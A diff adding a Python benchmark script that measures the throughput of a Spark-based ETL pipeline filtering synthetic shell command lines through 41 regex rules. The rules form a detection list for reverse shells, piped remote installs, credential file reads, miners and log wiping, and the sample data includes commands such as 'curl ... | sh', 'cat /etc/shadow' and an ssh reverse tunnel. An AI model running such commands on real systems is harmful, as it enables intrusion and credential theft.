@@ -1,0 +1,209 @@
+#!/usr/bin/env python3
+"""Windowed throughput: generator -> filter with 41 regex rules -> tumbling 10 s count by key -> file.
+
+    .venv/bin/python bench/window.py --events 1000000 [--batch 250000] [--repeat 2]
+
+One etl pipeline run with --once (AvailableNow) through the real compile/runtime path:
+the seeded generator (event time 20,000 events per second, 100 keys, a command line per
+event), a `filter` whose 41 regex rules go through etl.optimize (one Hyperscan scan of
+the field per batch, mapInArrow), a tumbling 10 s window counting events per key on the
+native engine (RocksDB state, watermark 5 s, append mode) and the file sink (jsonl).
+events_per_s = events / wall time of the run (query start to the last commit, after a
+warm-up run on 100,000 events); p99_batch_s = the 99th percentile of the micro-batch
+durations (triggerExecution). Best of --repeat runs. The line before the last gives the
+CPU seconds the run used (this process, the JVM and the Python workers): on a shared,
+busy machine, events / (cpu_s / cores) is what the run would reach on idle cores. Last line:
+
+    window events=M events_per_s=X p99_batch_s=Y
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import math
+import os
+import shutil
+import sys
+import tempfile
+import textwrap
+import time
+from pathlib import Path
+from typing import Any
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+# 41 rules over the command line (drop mode: events matching any of them are removed)
+PATTERNS = [
+    r"curl .*\| *(ba)?sh", r"wget\s+https?://\S+\.(sh|py|pl)\b", r"\bnc\s+-e\s+/bin/(ba)?sh", r"base64\s+-d",
+    r"/etc/(passwd|shadow)", r"chmod\s+\+x\s+/tmp/\w+", r"python[23]?\s+-c\s+.*socket", r"\bnmap\b",
+    r"mimikatz", r"bash\s+-i\s+>&\s*/dev/tcp/", r"rm\s+-rf\s+/(\s|$)", r"\bcrontab\s+-r\b", r"ssh\s+-R\s+\d+:",
+    r"powershell.*-enc", r"\bxmrig\b", r"stratum\+tcp://", r"/dev/shm/\.\w+", r"iptables\s+-F",
+    r"history\s+-c", r"\bunset\s+HISTFILE\b", r"echo\s+\S{24,}\s*\|\s*base64", r"\bsocat\b.*exec",
+    r"\btelnet\s+\d+\.\d+\.\d+\.\d+\s+\d+", r"authorized_keys", r"\bid_rsa\b", r"\.onion\b",
+    r"\bsetuid\b", r"\bLD_PRELOAD=", r"/proc/\d+/mem", r"\bdd\s+if=/dev/(sd|nvme)", r"\bshred\s+-",
+    r"\bkill\s+-9\s+-1\b", r"\btcpdump\b.*-w", r"\bchattr\s+\+i\b", r"\bpkexec\b", r"sudo\s+-l\b",
+    r"\bfind\s+/\s+-perm\s+-4000", r"\bgcc\b.*-o\s+/tmp/", r"\bperl\s+-e\b", r"\bruby\s+-rsocket\b",
+    r"\bphp\s+-r\b.*fsockopen",
+]
+PIPELINE = """\
+    name: bench-window
+    sources:
+      - id: events
+        type: generator
+        count: {count}
+        rate: 20000
+        seed: 7
+        rows_per_batch: {batch}
+        fields:
+          ts: {{timestamp: event}}
+          key: {{choice: {keys}}}
+          cmd: {{choice: {cmds}}}
+        event_time: {{field: ts, watermark: 5s}}
+    transforms:
+      - id: clean
+        type: filter
+        input: events
+        mode: drop
+        rules: {rules}
+      - id: per_key
+        type: window
+        input: clean
+        kind: tumbling
+        size: 10s
+        group_by: [key]
+        aggregates: [{{fn: count, as: n}}]
+    sinks:
+      - {{id: out, type: file, input: per_key, path: {output}, format: jsonl}}
+    checkpoint: {checkpoint}
+"""
+CMDS = ["ls -la /var/log", "cat /etc/hosts", "grep -r TODO src", "tar czf backup.tgz /srv/data", "git pull --rebase",
+        "docker ps -a", "kubectl get pods -n prod", "systemctl restart nginx", "python3 manage.py migrate",
+        "curl -s https://example.com/install.sh | sh", "cat /etc/shadow", "nmap -sS 10.0.0.0/24", "df -h",
+        "journalctl -u ssh --since today", "make -j4", "ssh -R 9000:localhost:22 relay.example.com",
+        "find / -perm -4000 -type f", "rsync -a /srv /mnt/backup", "vim /etc/nginx/nginx.conf", "top -b -n 1"]
+
+
+def rules_yaml() -> str:
+    rules = [{"id": f"r{i:02d}", "when": {"field": "cmd", "regex": p, "caseless": i % 3 == 0}}
+             for i, p in enumerate(PATTERNS)]
+    return json.dumps(rules)
+
+
+class Durations:
+    """Micro-batch durations of every query, through a StreamingQueryListener."""
+
+    def __init__(self, spark: Any):
+        from pyspark.sql.streaming import StreamingQueryListener
+
+        outer = self
+        self.seconds: list[float] = []
+
+        class L(StreamingQueryListener):
+            def onQueryStarted(self, event: Any) -> None:
+                pass
+
+            def onQueryProgress(self, event: Any) -> None:
+                p = event.progress
+                if p.numInputRows > 0:
+                    outer.seconds.append(p.durationMs.get("triggerExecution", 0) / 1000.0)
+
+            def onQueryIdle(self, event: Any) -> None:
+                pass
+
+            def onQueryTerminated(self, event: Any) -> None:
+                pass
+
+        self.listener = L()
+        spark.streams.addListener(self.listener)
+
+    def p99(self) -> float:
+        xs = sorted(self.seconds)
+        return xs[min(len(xs) - 1, math.ceil(0.99 * len(xs)) - 1)] if xs else float("nan")
+
+
+def tree_cpu() -> float:
+    """CPU seconds (user + system) used so far by this process and every process below it."""
+    me, procs = os.getpid(), {}
+    for d in os.listdir("/proc"):
+        if d.isdigit():
+            try:
+                with open(f"/proc/{d}/stat") as fh:
+                    f = fh.read().rsplit(")", 1)[1].split()
+                procs[int(d)] = (int(f[1]), sum(int(x) for x in f[11:15]))
+            except (OSError, IndexError, ValueError):
+                continue
+    total = 0
+    for pid, (_, ticks) in procs.items():
+        p = pid
+        while p and p != me and p in procs:
+            p = procs[p][0]
+        total += ticks if p == me else 0
+    return total / os.sysconf("SC_CLK_TCK")
+
+
+def run(spark: Any, count: int, batch: int, work: Path) -> tuple[float, int]:
+    from etl.check import check_file
+    from etl.runtime.runner import PipelineRun, RunOptions
+
+    out, ck = work / "out", work / "ckpt"
+    shutil.rmtree(out, ignore_errors=True)
+    shutil.rmtree(ck, ignore_errors=True)
+    p = work / "bench_window.yaml"
+    p.write_text(textwrap.dedent(PIPELINE.format(count=count, batch=batch, output=out, checkpoint=ck,
+                                                 keys=json.dumps([f"k{i:02d}" for i in range(100)]),
+                                                 cmds=json.dumps(CMDS), rules=rules_yaml())))
+    c = check_file(p, programs=True)
+    assert c.plan is not None, [d.render() for d in c.report.sorted()]
+    runner = PipelineRun(c.plan, spark, RunOptions(once=True, progress="none", echo=lambda s: None))
+    t0 = time.perf_counter()
+    runner.start()
+    runner.wait()
+    seconds = time.perf_counter() - t0
+    total = sum(json.loads(line)["n"] for f in out.glob("*.jsonl") for line in open(f))
+    return seconds, total
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    ap.add_argument("--events", type=int, default=1_000_000)
+    ap.add_argument("--batch", type=int, default=250_000, help="generator rows per micro-batch")
+    ap.add_argument("--repeat", type=int, default=2)
+    ap.add_argument("--master", default="local[2]")
+    ap.add_argument("--partitions", default="2", help="spark.sql.shuffle.partitions (state store partitions)")
+    args = ap.parse_args()
+
+    from etl.runtime.session import build_session
+
+    spark = build_session("etl-bench-window", args.master, {"spark.ui.enabled": "false",
+                                                            "spark.sql.shuffle.partitions": args.partitions}, ui=False)
+    work = Path(tempfile.mkdtemp(prefix="etl-bench-window-"))
+    try:
+        run(spark, 100_000, 50_000, work)  # warm-up: JIT, codegen, Python workers, Hyperscan database
+        durations = Durations(spark)
+        best: tuple[float, float, float] | None = None
+        for r in range(args.repeat):
+            durations.seconds = []
+            cpu0 = tree_cpu()
+            seconds, counted = run(spark, args.events, args.batch, work)
+            cpu = tree_cpu() - cpu0
+            time.sleep(0.5)  # the last progress event
+            rate, p99 = args.events / seconds, durations.p99()
+            print(f"run {r + 1}: {seconds:.2f} s, {rate:,.0f} events/s, batches={len(durations.seconds)} "
+                  f"p99={p99:.2f} s, cpu={cpu:.1f} s, counted in closed windows={counted:,}", flush=True)
+            if best is None or rate > best[0]:
+                best = (rate, p99, cpu)
+    finally:
+        spark.stop()
+        shutil.rmtree(work, ignore_errors=True)
+    assert best is not None
+    cores = os.cpu_count() or 1
+    print(f"cores={cores} master={args.master} batch={args.batch} rules={len(PATTERNS)} cpu_s={best[2]:.1f} "
+          f"events_per_cpu_s={args.events / best[2]:.0f} idle_estimate_events_per_s={args.events / (best[2] / cores):.0f} "
+          f"loadavg={os.getloadavg()[0]:.1f}")
+    print(f"window events={args.events} events_per_s={best[0]:.0f} p99_batch_s={best[1]:.2f}")
+
+
+if __name__ == "__main__":
+    main()
